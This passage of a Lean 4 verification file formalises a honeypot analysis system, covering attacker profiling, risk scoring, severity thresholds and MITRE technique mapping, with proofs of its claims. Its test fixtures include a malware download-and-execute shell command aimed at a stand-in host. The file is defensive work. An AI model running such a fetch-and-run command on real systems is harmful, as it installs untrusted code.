  likely_motive : String
  targeted_services : List String
  threat_level : String
  recommended_action : String

/-- Automation analysis of `build_attacker_profile`: with more than 5
shell-honeypot events, at least 2 of them timestamped, and inter-event delta
variance below 1.0, the attacker is flagged automated. -/
def automationFlag (cowrie_events : List Event) : Bool :=
  if 5 < cowrie_events.length then
    let timestamps := cowrie_events.filterMap Event.timestamp
    if 1 < timestamps.length then
      let intervals := diffs timestamps
      if intervals.isEmpty then false
      else (varianceF intervals).blt (intF 1)
    else false
  else false

/-- Build a comprehensive attacker profile
(`CorrelationEngine.build_attacker_profile`): re-runs `correlate_by_ip` over
a 30-day window ending now (both instants supplied by the caller here), then
derives persistence, automation and the combined risk assessment. -/
def build_attacker_profile (ip_address : String) (startT endT : Frac)
    (qCowrie qDionaea qSnort : EsResult) : AttackerProfile :=
  let correlation := correlate_by_ip ip_address startT endT qCowrie qDionaea qSnort
  let is_persistent : Bool := decide (10 < correlation.total_events)
  let is_automated : Bool := automationFlag correlation.events_cowrie
  { ip_address := ip_address
    is_persistent := is_persistent
    is_automated := is_automated
    sophistication_level := "low"
    likely_motive := "unknown"
    targeted_services := correlation.targeted_services
    threat_level := if is_persistent && is_automated then "high"
                    else if is_persistent then "medium" else "low"
    recommended_action := if is_persistent && is_automated then "block"
                          else if is_persistent then "monitor_closely"
                          else "monitor" }

/- ==================== module-level wrapper (mitre_mapper.py) ==================== -/

/-- Names defined at top level by the mitre_mapper module after import:
the class `MitreAttackMapper`, the lazy singleton slot `_mapper_instance`,
and the wrapper `map_to_mitre_bulk`.  No name `MitreMapper` is ever defined. -/
def mitreModuleNames : List String :=
  ["MitreAttackMapper", "_mapper_instance", "map_to_mitre_bulk"]

/-- Module-level wrapper `map_to_mitre_bulk`: lazily instantiates a class
named `MitreMapper`.  Python resolves that name in the module's global
namespace at call time; the embedding models the lookup explicitly, and the
body that would run after a successful lookup maps each event. -/
def map_to_mitre_bulk (events : List Event) : Except String (List MitreMapped) :=
  if "MitreMapper" ∈ mitreModuleNames then
    Except.ok (events.map map_event)
  else
    Except.error "NameError: name MitreMapper is not defined"

/- ==================== spec-side (refinement) definitions ==================== -/

/-- Combined score value named by the spec's §3 invariant, read off the
reported breakdown record:
`(attack_type_score + sophistication_score) * success_multiplier
 + ip_reputation_score + geo_risk_score + temporal_score`. -/
def specScoreValue (b : ScoreBreakdown) : Frac :=
  ((natF (b.attack_type_score + b.sophistication_score)).mul
     b.success_multiplier).add
    (natF (b.ip_reputation_score + b.geo_risk_score + b.temporal_score))

/-- Final score as the spec's invariant words it:
`clamp(0, 100, round(...))` with round-half-up rounding. -/
def specFinalRound (b : ScoreBreakdown) : Int :=
  max 0 (min 100 (specScoreValue b).roundInt)

/-- Final score with the spec's `round` replaced by the truncation the source
performs (`int(...)`; equivalently `floor` on these nonnegative values):
`clamp(0, 100, floor(...))`. -/
def specFinalFloor (b : ScoreBreakdown) : Int :=
  max 0 (min 100 (specScoreValue b).floorInt)

/-- Severity thresholds as the spec words them: below 26 low, 26 through 50
medium, 51 through 75 high, 76 and above critical. -/
def severityPerSpec (score : Int) : String :=
  if score < 26 then "low"
  else if score ≤ 50 then "medium"
  else if score ≤ 75 then "high"
  else "critical"

/-- Rank of a severity label, for stating monotonicity. -/
def sevRank (sev : String) : Nat :=
  if sev == "low" then 0
  else if sev == "medium" then 1
  else if sev == "high" then 2
  else 3

/-- First-matching-pattern detail records over a catalog fragment: for each
technique in order, the first pattern matching the text (if any) produces
exactly one detail record. -/
def detailsFor (text : List Char) (L : List (String × TechniqueData)) :
    List TechDetail :=
  L.filterMap (fun tq =>
    (tq.2.patterns.find? (fun p => rsearch p text)).map (fun p =>
      ⟨tq.1, tq.2.name, tq.2.tactic, tacticName tq.2.tactic, p⟩))

/-- First-matching-pattern characterisation of `map_event`'s detail list, as
the spec words it: for each catalog technique in order, the first pattern
matching the combined text (if any) produces exactly one detail record. -/
def specFirstMatchDetails (text : List Char) : List TechDetail :=
  detailsFor text TECHNIQUE_MAPPINGS

/- ==================== concrete fixture inputs ==================== -/

/-- Command event whose combined value is the half-integer 37.5, separating
the spec's `round` from the source's truncation. -/
def evTrunc : Event :=
  { emptyEvent with eventid := "cowrie.command.input", input := "base64 --decode x" }

/-- The spec §8 example event: successful login, empty input, blocklisted IP. -/
def evLogin : Event :=
  { emptyEvent with eventid := "cowrie.login.success", rep_in_blocklist := true }

/-- Event carrying only the malware-fetch command of the spec §8 example. -/
def evWgetBare : Event :=
  { emptyEvent with input := "wget http://x/y && chmod +x y && ./y" }

/-- The same command as a shell-honeypot command event. -/
def evWgetCmd : Event :=
  { emptyEvent with eventid := "cowrie.command.input",
                    input := "wget http://x/y && chmod +x y && ./y" }

/-- Event matching no catalog pattern at all. -/
def evNoMatch : Event := { emptyEvent with input := "zzz" }

/-- Frac literal for one tenth of a second times the argument. -/
def tenths (n : Int) : Frac := ⟨n, 10, by decide⟩

/-- Frac literal 1/5 (the example inter-arrival variance 0.2). -/
def fifth : Frac := ⟨1, 5, by decide⟩

/-- A shell-honeypot event at the given timestamp (tenths of seconds). -/
def cowrieAt (n : Int) : Event :=
  { emptyEvent with eventid := "cowrie.login.failed", timestamp := some (tenths n) }

/-- Twelve shell-honeypot events whose inter-arrival deltas
(1.9, 0.1, 1.5, 0.5, 1.2, 0.8, 1, 1, 1, 1, 1 seconds) have mean 1 and
population variance exactly 0.2. -/
def cowrie12 : List Event :=
  [cowrieAt 0, cowrieAt 19, cowrieAt 20, cowrieAt 35, cowrieAt 40, cowrieAt 52,
   cowrieAt 60, cowrieAt 70, cowrieAt 80, cowrieAt 90, cowrieAt 100, cowrieAt 110]

/-- Three timestamped shell-honeypot events with constant 1-second deltas
(variance 0). -/
def cowrie3 : List Event := [cowrieAt 0, cowrieAt 10, cowrieAt 20]

/-- A dionaea event fixture for the correlation witness. -/
def evSmb : Event :=
  { emptyEvent with connection_type := some "smb", timestamp := some (tenths 30) }

/-- Six distinct source IPs. -/
def buckets6 : List String :=
  ["10.0.0.1", "10.0.0.2", "10.0.0.3", "10.0.0.4", "10.0.0.5", "10.0.0.6"]

/-- Five distinct source IPs. -/
def buckets5 : List String :=
  ["10.0.0.1", "10.0.0.2", "10.0.0.3", "10.0.0.4", "10.0.0.5"]

/- ==================== helper lemmas ==================== -/

/-- Denominator of a fraction is nonnegative as an integer. -/
theorem Frac.den_cast_nonneg (a : Frac) : (0 : Int) ≤ (a.den : Int) :=
  Int.natCast_nonneg a.den

/-- Denominator of a fraction is positive as an integer. -/
theorem Frac.den_cast_pos (a : Frac) : (0 : Int) < (a.den : Int) :=
  Int.natCast_pos.mpr a.dpos

/-- Natural embeddings are nonnegative. -/
theorem natF_nonneg (n : Nat) : (natF n).Nonneg := Int.natCast_nonneg n

/-- Addition preserves nonnegativity. -/
theorem Frac.add_nonneg' {a b : Frac} (ha : a.Nonneg) (hb : b.Nonneg) :
    (a.add b).Nonneg :=
  add_nonneg (mul_nonneg ha b.den_cast_nonneg) (mul_nonneg hb a.den_cast_nonneg)

/-- Multiplication preserves nonnegativity. -/
theorem Frac.mul_nonneg' {a b : Frac} (ha : a.Nonneg) (hb : b.Nonneg) :
    (a.mul b).Nonneg :=
  mul_nonneg ha hb

/-- Truncation toward zero and floor agree on nonnegative fractions. -/
theorem Frac.truncInt_eq_floorInt {a : Frac} (h : a.Nonneg) :
    a.truncInt = a.floorInt := by
  unfold Frac.truncInt Frac.floorInt
  rw [Int.tdiv_eq_ediv h a.den_cast_nonneg, Int.fdiv_eq_ediv _ a.den_cast_nonneg]

/-- Truncation of a nonnegative fraction is nonnegative. -/
theorem Frac.truncInt_nonneg {a : Frac} (h : a.Nonneg) : 0 ≤ a.truncInt :=
  Int.tdiv_nonneg h a.den_cast_nonneg

/-- The source's final-score computation `min(100, int(v))` coincides with
the clamped floor `clamp(0, 100, ⌊v⌋)` on nonnegative values. -/
theorem final_clamp (v : Frac) (h : v.Nonneg) :
    min 100 v.truncInt = max 0 (min 100 v.floorInt) := by
  rw [Frac.truncInt_eq_floorInt h]
  have h0 : 0 ≤ v.floorInt := by
    rw [← Frac.truncInt_eq_floorInt h]; exact Frac.truncInt_nonneg h
  rw [max_eq_right (le_min (by norm_num) h0)]

/-- The success multiplier chosen by `calculate_score` is nonnegative. -/
theorem multNonneg (ev : Event) :
    Frac.Nonneg (if is_successful_attack ev then threeHalves else oneF) := by
  cases is_successful_attack ev
  · exact (show (0 : Int) ≤ 1 by decide)
  · exact (show (0 : Int) ≤ 3 by decide)

/-- The combined score value of `calculate_score` is nonnegative. -/
theorem calcValue_nonneg (ev : Event) :
    Frac.Nonneg (((natF (attackTypeScore (identify_attack_type ev) +
        assess_sophistication ev)).mul
          (if is_successful_attack ev then threeHalves else oneF)).add
        (natF (assess_ip_reputation ev + geo_risk_score ev +
               assess_temporal_patterns ev))) :=
  Frac.add_nonneg' (Frac.mul_nonneg' (natF_nonneg _) (multNonneg ev)) (natF_nonneg _)

/- ==================== claims ==================== -/

/-- Claim C1 (amended): for every event, the final_score reported by
`calculate_score` equals `clamp(0, 100, floor((attack_type_score +
sophistication_score) * success_multiplier + ip_reputation_score +
geo_risk_score + temporal_score))` over the sub-scores of the returned
breakdown record — with `floor` (the source truncates via `int(...)`, and
the value is nonnegative) in place of the claimed `round`. -/
theorem claim_C1 (ev : Event) :
    (calculate_score ev).breakdown.final_score =
      specFinalFloor ((calculate_score ev).breakdown) :=
  final_clamp _ (calcValue_nonneg ev)


/-- Severity rank of the source's label, expressed by thresholds. -/
theorem sevRank_thresholds (x : Int) :
    sevRank (score_to_severity x) =
      if 76 ≤ x then 3 else if 51 ≤ x then 2 else if 26 ≤ x then 1 else 0 := by
  unfold score_to_severity
  split_ifs <;> rfl

/-- Claim C2: every final score lies in [0, 100]; the severity label is the
pure threshold function of the final score alone (below 26 low, 26–50 medium,
51–75 high, 76 and above critical), and that function is monotone in the
score. -/
theorem claim_C2 (ev : Event) :
    (0 ≤ (calculate_score ev).breakdown.final_score ∧
     (calculate_score ev).breakdown.final_score ≤ 100) ∧
    (calculate_score ev).severity =
      score_to_severity ((calculate_score ev).breakdown.final_score) ∧
    (∀ s : Int, score_to_severity s = severityPerSpec s) ∧
    (∀ s t : Int, s ≤ t →
      sevRank (score_to_severity s) ≤ sevRank (score_to_severity t)) := by
  refine ⟨⟨?_, ?_⟩, rfl, ?_, ?_⟩
  · exact le_min (by norm_num) (Frac.truncInt_nonneg (calcValue_nonneg ev))
  · exact min_le_left _ _
  · intro s
    unfold score_to_severity severityPerSpec
    split_ifs <;> first | rfl | omega
  · intro s t h
    rw [sevRank_thresholds, sevRank_thresholds]
    split_ifs <;> omega

/-- Claim C2 witness: the bounds and the threshold function evaluated at the
spec's own example event, and monotonicity discharged at 30 ≤ 80. -/
theorem claim_C2_witness :
    (0 ≤ (calculate_score evLogin).breakdown.final_score ∧
     (calculate_score evLogin).breakdown.final_score ≤ 100) ∧
    (30 : Int) ≤ 80 ∧
    sevRank (score_to_severity 30) ≤ sevRank (score_to_severity 80) :=
  ⟨(claim_C2 evLogin).1, by decide, (claim_C2 evLogin).2.2.2 30 80 (by decide)⟩


/-- Claim C10: for every input event list (the empty list included), the
module-level wrapper `map_to_mitre_bulk` raises a NameError — the class name
`MitreMapper` it instantiates is not defined in the module — and never
returns a result. -/
theorem claim_C10 (events : List Event) :
    map_to_mitre_bulk events =
      Except.error "NameError: name MitreMapper is not defined" := rfl

/-- Claim C7: when exactly one of the three per-source queries raises, the
correlation result still comes back, the failing source contributes an empty
list, the other two sources' lists are exactly their query results, and
summary total_events is the sum of the three per-source list lengths. -/
theorem claim_C7 (ip : String) (startT endT : Frac) (q1 q2 q3 : EsResult)
    (hone : (cond (isErr q1) 1 0) + (cond (isErr q2) 1 0) +
            (cond (isErr q3) 1 0) = 1) :
    (isErr q1 = true → (correlate_by_ip ip startT endT q1 q2 q3).events_cowrie = []) ∧
    (∀ l, q1 = Except.ok l →
      (correlate_by_ip ip startT endT q1 q2 q3).events_cowrie = l) ∧
    (isErr q2 = true → (correlate_by_ip ip startT endT q1 q2 q3).events_dionaea = []) ∧
    (∀ l, q2 = Except.ok l →
      (correlate_by_ip ip startT endT q1 q2 q3).events_dionaea = l) ∧
    (isErr q3 = true → (correlate_by_ip ip startT endT q1 q2 q3).events_snort = []) ∧
    (∀ l, q3 = Except.ok l →
      (correlate_by_ip ip startT endT q1 q2 q3).events_snort = l) ∧
    (correlate_by_ip ip startT endT q1 q2 q3).total_events =
      (correlate_by_ip ip startT endT q1 q2 q3).events_cowrie.length +
      (correlate_by_ip ip startT endT q1 q2 q3).events_dionaea.length +
      (correlate_by_ip ip startT endT q1 q2 q3).events_snort.length := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, rfl⟩ <;>
    (intros; cases q1 <;> cases q2 <;> cases q3 <;>
      simp_all [isErr, correlate_by_ip, sourceList])

/-- Claim C7 witness: cowrie times out, dionaea returns one hit, snort
returns none; the result carries ([], [evSmb], []) and total_events 1. -/
theorem claim_C7_witness :
    (correlate_by_ip "1.2.3.4" (tenths 0) (tenths 9000)
        (Except.error "timeout") (Except.ok [evSmb]) (Except.ok [])).events_cowrie
        = [] ∧
    (correlate_by_ip "1.2.3.4" (tenths 0) (tenths 9000)
        (Except.error "timeout") (Except.ok [evSmb]) (Except.ok [])).events_dionaea
        = [evSmb] ∧
    (correlate_by_ip "1.2.3.4" (tenths 0) (tenths 9000)
        (Except.error "timeout") (Except.ok [evSmb]) (Except.ok [])).total_events
        = 1 :=
  have h := claim_C7 "1.2.3.4" (tenths 0) (tenths 9000)
    (Except.error "timeout") (Except.ok [evSmb]) (Except.ok []) (by decide)
  ⟨h.1 (by decide), h.2.2.2.1 [evSmb] rfl, by decide⟩

/-- Claim C8: an in-window aggregation with exactly 6 distinct source IPs
yields exactly one "multiple_sources" finding of medium confidence with
ip_count 6; 5 or fewer distinct IPs yield no finding. -/
theorem claim_C8 (ip_buckets : List String) (time_window : String) :
    (ip_buckets.Nodup → ip_buckets.length = 6 →
      detect_coordinated_attacks ip_buckets time_window =
        [{ pattern := "multiple_sources", confidence := "medium", ip_count := 6,
           time_window := time_window,
           description := "6 different IPs attacking in " ++ time_window }]) ∧
    (ip_buckets.length ≤ 5 →
      detect_coordinated_attacks ip_buckets time_window = []) := by
  constructor
  · intro _ h6
    unfold detect_coordinated_attacks
    rw [h6]
    rfl
  · intro h5
    unfold detect_coordinated_attacks
    rw [if_neg (by omega)]

/-- Claim C8 witness: six distinct IPs produce the single finding; five
produce none. -/
theorem claim_C8_witness :
    detect_coordinated_attacks buckets6 "0:15:00" =
      [{ pattern := "multiple_sources", confidence := "medium", ip_count := 6,
         time_window := "0:15:00",
         description := "6 different IPs attacking in 0:15:00" }] ∧
    detect_coordinated_attacks buckets5 "0:15:00" = [] :=
  ⟨(claim_C8 buckets6 "0:15:00").1 (by decide) (by decide),
   (claim_C8 buckets5 "0:15:00").2 (by decide)⟩


/- ==================== map_event characterisation (C5) ==================== -/

/-- Technique ids of the catalog are pairwise distinct. -/
theorem techKeys_nodup : (TECHNIQUE_MAPPINGS.map Prod.fst).Nodup := by decide

/-- Unfolding of `detailsFor` on a cons cell whose first pattern search
fails. -/
theorem detailsFor_cons_none {text tq L}
    (h : tq.2.patterns.find? (fun p => rsearch p text) = none) :
    detailsFor text (tq :: L) = detailsFor text L := by
  simp [detailsFor, h]

/-- Unfolding of `detailsFor` on a cons cell whose pattern search succeeds. -/
theorem detailsFor_cons_some {text tq L p}
    (h : tq.2.patterns.find? (fun p => rsearch p text) = some p) :
    detailsFor text (tq :: L) =
      ⟨tq.1, tq.2.name, tq.2.tactic, tacticName tq.2.tactic, p⟩ ::
        detailsFor text L := by
  simp [detailsFor, h]

/-- The fold of `mapStep` over a catalog fragment, starting from any
accumulator whose technique list is disjoint from the fragment's keys,
produces exactly the first-match detail records in order: the techniques are
appended, the tactics are first-occurrence-deduplicated, and each detail
carries the first matching pattern of its technique. -/
theorem mapFold_char (text : List Char) :
    ∀ (L : List (String × TechniqueData)) (m : MitreMapped),
      (∀ tq ∈ L, tq.1 ∉ m.techniques) → (L.map Prod.fst).Nodup →
      L.foldl (mapStep text) m =
        ⟨firstDedup m.tactics ((detailsFor text L).map TechDetail.tactic_id),
         m.techniques ++ (detailsFor text L).map TechDetail.technique_id,
         m.technique_details ++ detailsFor text L⟩ := by
  intro L
  induction L with
  | nil => intro m _ _; simp [detailsFor, firstDedup]
  | cons tq L ih =>
    intro m hdisj hnodup
    have hnd_tail : (L.map Prod.fst).Nodup := (List.nodup_cons.mp hnodup).2
    have hhead : tq.1 ∉ L.map Prod.fst := (List.nodup_cons.mp hnodup).1
    rw [List.foldl_cons]
    cases hfind : tq.2.patterns.find? (fun p => rsearch p text) with
    | none =>
      have hstep : mapStep text m tq = m := by
        unfold mapStep
        rw [hfind]
      rw [hstep, detailsFor_cons_none hfind]
      exact ih m (fun x hx => hdisj x (List.mem_cons_of_mem _ hx)) hnd_tail
    | some p =>
      have hmem : tq.1 ∉ m.techniques := hdisj tq (List.mem_cons_self tq L)
      have hstep : mapStep text m tq =
          ⟨if tq.2.tactic ∈ m.tactics then m.tactics else m.tactics ++ [tq.2.tactic],
           m.techniques ++ [tq.1],
           m.technique_details ++
             [⟨tq.1, tq.2.name, tq.2.tactic, tacticName tq.2.tactic, p⟩]⟩ := by
        unfold mapStep
        rw [hfind]
        exact if_neg hmem
      have hdisj' : ∀ tq' ∈ L, tq'.1 ∉ m.techniques ++ [tq.1] := by
        intro tq' h' hmem'
        rcases List.mem_append.mp hmem' with h1 | h1
        · exact hdisj tq' (List.mem_cons_of_mem _ h') h1
        · exact hhead (by
            rw [List.mem_singleton] at h1
            rw [← h1]
            exact List.mem_map_of_mem Prod.fst h')
      rw [hstep, ih _ hdisj' hnd_tail, detailsFor_cons_some hfind]
      simp [firstDedup]

/-- The result of `map_event` is exactly the first-match characterisation:
detail records in catalog order, technique ids appended in order, tactic ids
first-occurrence-deduplicated. -/
theorem map_event_char (ev : Event) :
    map_event ev =
      ⟨firstDedup [] ((specFirstMatchDetails (combinedText ev)).map
          TechDetail.tactic_id),
       (specFirstMatchDetails (combinedText ev)).map TechDetail.technique_id,
       specFirstMatchDetails (combinedText ev)⟩ := by
  have h := mapFold_char (combinedText ev) TECHNIQUE_MAPPINGS ⟨[], [], []⟩
    (by intro tq _ hmem; simp at hmem) techKeys_nodup
  simpa [map_event, specFirstMatchDetails] using h

/-- First-occurrence deduplication produces a duplicate-free list. -/
theorem firstDedup_nodup : ∀ (l acc : List String), acc.Nodup →
    (firstDedup acc l).Nodup := by
  intro l
  induction l with
  | nil => intro acc h; exact h
  | cons s l ih =>
    intro acc h
    show (firstDedup (if s ∈ acc then acc else acc ++ [s]) l).Nodup
    by_cases hs : s ∈ acc
    · rw [if_pos hs]; exact ih acc h
    · rw [if_neg hs]
      refine ih _ (List.Nodup.append h (List.nodup_singleton s) ?_)
      intro a ha hb
      rw [List.mem_singleton] at hb
      subst hb
      exact hs ha


/-- First-occurrence deduplication keeps every element of the accumulator and
of the input list. -/
theorem firstDedup_mem : ∀ (l acc : List String) (x : String),
    x ∈ acc ∨ x ∈ l → x ∈ firstDedup acc l := by
  intro l
  induction l with
  | nil =>
    intro acc x h
    rcases h with h | h
    · exact h
    · exact absurd h (List.not_mem_nil x)
  | cons s l ih =>
    intro acc x h
    show x ∈ firstDedup (if s ∈ acc then acc else acc ++ [s]) l
    by_cases hs : s ∈ acc
    · rw [if_pos hs]
      rcases h with h | h
      · exact ih acc x (Or.inl h)
      · rcases List.mem_cons.mp h with rfl | h'
        · exact ih acc x (Or.inl hs)
        · exact ih acc x (Or.inr h')
    · rw [if_neg hs]
      rcases h with h | h
      · exact ih _ x (Or.inl (List.mem_append.mpr (Or.inl h)))
      · rcases List.mem_cons.mp h with rfl | h'
        · exact ih _ x (Or.inl (List.mem_append.mpr
            (Or.inr (List.mem_singleton.mpr rfl))))
        · exact ih _ x (Or.inr h')

/-- The technique ids reported by the first-match characterisation form a
sublist of the catalog's keys. -/
theorem detailsFor_techId_sublist (text : List Char) :
    ∀ L, ((detailsFor text L).map TechDetail.technique_id).Sublist
          (L.map Prod.fst) := by
  intro L
  induction L with
  | nil => simp [detailsFor]
  | cons tq L ih =>
    cases hfind : tq.2.patterns.find? (fun p => rsearch p text) with
    | none =>
      rw [detailsFor_cons_none hfind, List.map_cons]
      exact ih.cons _
    | some p =>
      rw [detailsFor_cons_some hfind, List.map_cons, List.map_cons]
      exact ih.cons₂ _

/-- Every catalog technique's owning tactic id is a key of the tactic
catalog. -/
theorem catalogTactic_mem : ∀ tq ∈ TECHNIQUE_MAPPINGS,
    tq.2.tactic ∈ TACTICS.map Prod.fst := by decide

/-- Every detail record of the characterisation carries a catalog tactic id. -/
theorem specDetails_tactic_mem {text : List Char} {d : TechDetail}
    (h : d ∈ specFirstMatchDetails text) :
    d.tactic_id ∈ TACTICS.map Prod.fst := by
  rcases List.mem_filterMap.mp h with ⟨tq, htq, hf⟩
  rcases Option.map_eq_some'.mp hf with ⟨p, hfind, rfl⟩
  exact catalogTactic_mem tq htq

/-- Claim C5: `map_event` records each technique at most once — its detail
list is exactly the first-matching-pattern characterisation, so the first
matching pattern of a technique wins and its later patterns are not
consulted — records each tactic at most once, and returns empty collections
(not an error) when nothing matches. -/
theorem claim_C5 (ev : Event) :
    (map_event ev).techniques.Nodup ∧
    (map_event ev).tactics.Nodup ∧
    (map_event ev).technique_details = specFirstMatchDetails (combinedText ev) ∧
    ((∀ tq ∈ TECHNIQUE_MAPPINGS, ∀ p ∈ tq.2.patterns,
        rsearch p (combinedText ev) = false) →
      map_event ev = ⟨[], [], []⟩) := by
  have hc := map_event_char ev
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [hc]
    exact techKeys_nodup.sublist (detailsFor_techId_sublist _ _)
  · rw [hc]
    exact firstDedup_nodup _ [] List.nodup_nil
  · rw [hc]
  · intro hnone
    have hdet : specFirstMatchDetails (combinedText ev) = [] := by
      apply List.filterMap_eq_nil_iff.mpr
      intro tq htq
      rw [List.find?_eq_none.mpr ?_]
      · rfl
      · intro p hp
        simp [hnone tq htq p hp]
    rw [hc, hdet]
    rfl

/-- Claim C5 witness: an event matching no pattern yields the empty result. -/
theorem claim_C5_witness : map_event evNoMatch = ⟨[], [], []⟩ :=
  (claim_C5 evNoMatch).2.2.2 (by decide)

/- ==================== attacker profile (C9) ==================== -/

/-- Length of the inter-event delta list. -/
theorem diffs_length : ∀ l : List Frac, (diffs l).length = l.length - 1
  | [] => rfl
  | [_] => rfl
  | a :: b :: r => by
      simp [diffs, diffs_length (b :: r)]

/-- A fraction whose value equals 1/5 is smaller than 1. -/
theorem beq_fifth_blt_one {v : Frac} (h : v.beq fifth = true) :
    v.blt (intF 1) = true := by
  unfold Frac.beq fifth at h
  unfold Frac.blt intF
  simp only [decide_eq_true_eq] at h ⊢
  have hd := v.den_cast_pos
  omega

/-- Claim C9 (amended): `build_attacker_profile` sets is_persistent exactly
when the total correlated event count exceeds 10; sets is_automated exactly
when the shell-honeypot source has more than 5 events, at least 2 of them
timestamped, with inter-event delta variance below 1.0; derives the risk
assessment from the two flags (both ⇒ high/block, persistent only ⇒
medium/monitor_closely, neither ⇒ low/monitor); and a profile built from 12
timestamped shell-honeypot events with inter-arrival variance 0.2 is
persistent, automated, high threat, action block. -/
theorem claim_C9 (ip : String) (startT endT : Frac) (qc qd qs : EsResult) :
    (build_attacker_profile ip startT endT qc qd qs).is_persistent =
      decide (10 < (sourceList qc).length + (sourceList qd).length +
              (sourceList qs).length) ∧
    (build_attacker_profile ip startT endT qc qd qs).is_automated =
      (decide (5 < (sourceList qc).length) &&
       decide (1 < ((sourceList qc).filterMap Event.timestamp).length) &&
       (varianceF (diffs ((sourceList qc).filterMap Event.timestamp))).blt
         (intF 1)) ∧
    ((build_attacker_profile ip startT endT qc qd qs).is_persistent = true →
     (build_attacker_profile ip startT endT qc qd qs).is_automated = true →
     (build_attacker_profile ip startT endT qc qd qs).threat_level = "high" ∧
     (build_attacker_profile ip startT endT qc qd qs).recommended_action =
       "block") ∧
    ((build_attacker_profile ip startT endT qc qd qs).is_persistent = true →
     (build_attacker_profile ip startT endT qc qd qs).is_automated = false →
     (build_attacker_profile ip startT endT qc qd qs).threat_level = "medium" ∧
     (build_attacker_profile ip startT endT qc qd qs).recommended_action =
       "monitor_closely") ∧
    ((build_attacker_profile ip startT endT qc qd qs).is_persistent = false →
     (build_attacker_profile ip startT endT qc qd qs).is_automated = false →
     (build_attacker_profile ip startT endT qc qd qs).threat_level = "low" ∧
     (build_attacker_profile ip startT endT qc qd qs).recommended_action =
       "monitor") ∧
    (∀ lc : List Event, qc = Except.ok lc → lc.length = 12 →
     (lc.filterMap Event.timestamp).length = 12 →
     (varianceF (diffs (lc.filterMap Event.timestamp))).beq fifth = true →
     qd = Except.ok [] → qs = Except.ok [] →
     (build_attacker_profile ip startT endT qc qd qs).is_persistent = true ∧
     (build_attacker_profile ip startT endT qc qd qs).is_automated = true ∧
     (build_attacker_profile ip startT endT qc qd qs).threat_level = "high" ∧
     (build_attacker_profile ip startT endT qc qd qs).recommended_action =
       "block") := by
  have hauto : (build_attacker_profile ip startT endT qc qd qs).is_automated =
      (decide (5 < (sourceList qc).length) &&
       decide (1 < ((sourceList qc).filterMap Event.timestamp).length) &&
       (varianceF (diffs ((sourceList qc).filterMap Event.timestamp))).blt
         (intF 1)) := by
    show automationFlag (sourceList qc) = _
    unfold automationFlag
    by_cases h5 : 5 < (sourceList qc).length
    · rw [if_pos h5]
      by_cases h2 : 1 < ((sourceList qc).filterMap Event.timestamp).length
      · rw [if_pos h2]
        cases hd : diffs ((sourceList qc).filterMap Event.timestamp) with
        | nil =>
          exfalso
          have hl := diffs_length ((sourceList qc).filterMap Event.timestamp)
          rw [hd] at hl
          simp at hl
          omega
        | cons a t =>
          simp [h5, h2]
      · rw [if_neg h2]
        rw [decide_eq_false h2, Bool.and_false, Bool.false_and]
    · rw [if_neg h5]
      rw [decide_eq_false h5, Bool.false_and, Bool.false_and]
  have hrisk : (build_attacker_profile ip startT endT qc qd qs).threat_level =
      (if (build_attacker_profile ip startT endT qc qd qs).is_persistent &&
          (build_attacker_profile ip startT endT qc qd qs).is_automated
       then "high"
       else if (build_attacker_profile ip startT endT qc qd qs).is_persistent
       then "medium" else "low") ∧
      (build_attacker_profile ip startT endT qc qd qs).recommended_action =
      (if (build_attacker_profile ip startT endT qc qd qs).is_persistent &&
          (build_attacker_profile ip startT endT qc qd qs).is_automated
       then "block"
       else if (build_attacker_profile ip startT endT qc qd qs).is_persistent
       then "monitor_closely" else "monitor") := ⟨rfl, rfl⟩
  refine ⟨rfl, hauto, ?_, ?_, ?_, ?_⟩
  · intro hp ha
    rw [hrisk.1, hrisk.2, hp, ha]
    exact ⟨rfl, rfl⟩
  · intro hp ha
    rw [hrisk.1, hrisk.2, hp, ha]
    exact ⟨rfl, rfl⟩
  · intro hp ha
    rw [hrisk.1, hrisk.2, hp, ha]
    exact ⟨rfl, rfl⟩
  · intro lc hqc h12 ht12 hvar hqd hqs
    subst hqc hqd hqs
    have hpers : (build_attacker_profile ip startT endT (Except.ok lc)
        (Except.ok []) (Except.ok [])).is_persistent =
        decide (10 < (sourceList (Except.ok lc)).length +
                (sourceList (Except.ok ([] : List Event))).length +
                (sourceList (Except.ok ([] : List Event))).length) := rfl
    have hp : (build_attacker_profile ip startT endT (Except.ok lc)
        (Except.ok []) (Except.ok [])).is_persistent = true := by
      rw [hpers]
      simp [sourceList, h12]
    have ha : (build_attacker_profile ip startT endT (Except.ok lc)
        (Except.ok []) (Except.ok [])).is_automated = true := by
      rw [hauto]
      have hb := beq_fifth_blt_one hvar
      simp [sourceList, h12, ht12, hb]
    have hr := hrisk
    refine ⟨hp, ha, ?_, ?_⟩
    · rw [hr.1, hp, ha]; rfl
    · rw [hr.2, hp, ha]; rfl

/-- Claim C9 counterexample: three timestamped shell-honeypot events with
constant deltas (variance 0 < 1) do not get is_automated — the source also
requires more than five events from that source — although the claim's
condition (at least 2 timestamped events, variance below 1.0) holds. -/
theorem claim_C9_counterexample :
    (build_attacker_profile "9.9.9.9" (tenths 0) (tenths 9000)
       (Except.ok cowrie3) (Except.ok []) (Except.ok [])).is_automated = false ∧
    1 < ((sourceList (Except.ok cowrie3)).filterMap Event.timestamp).length ∧
    (varianceF (diffs ((sourceList (Except.ok cowrie3)).filterMap
        Event.timestamp))).blt (intF 1) = true := by
  refine ⟨by decide, by decide, by decide⟩

/-- Claim C9 witness: the 12-event, variance-0.2 profile of the spec's
example is persistent, automated, high threat, recommended action block. -/
theorem claim_C9_witness :
    (build_attacker_profile "8.8.8.8" (tenths 0) (tenths 9000)
       (Except.ok cowrie12) (Except.ok []) (Except.ok [])).is_persistent = true ∧
    (build_attacker_profile "8.8.8.8" (tenths 0) (tenths 9000)
       (Except.ok cowrie12) (Except.ok []) (Except.ok [])).is_automated = true ∧
    (build_attacker_profile "8.8.8.8" (tenths 0) (tenths 9000)
       (Except.ok cowrie12) (Except.ok []) (Except.ok [])).threat_level =
      "high" ∧
    (build_attacker_profile "8.8.8.8" (tenths 0) (tenths 9000)
       (Except.ok cowrie12) (Except.ok []) (Except.ok [])).recommended_action =
      "block" :=
  (claim_C9 "8.8.8.8" (tenths 0) (tenths 9000)
      (Except.ok cowrie12) (Except.ok []) (Except.ok [])).2.2.2.2.2 cowrie12
    rfl (by decide) (by decide) (by decide) rfl rfl

/- ==================== attack chain (C6) ==================== -/

/-- Reflexivity of the fraction comparison. -/
theorem Frac.ble_refl (a : Frac) : a.ble a = true := by
  unfold Frac.ble; simp

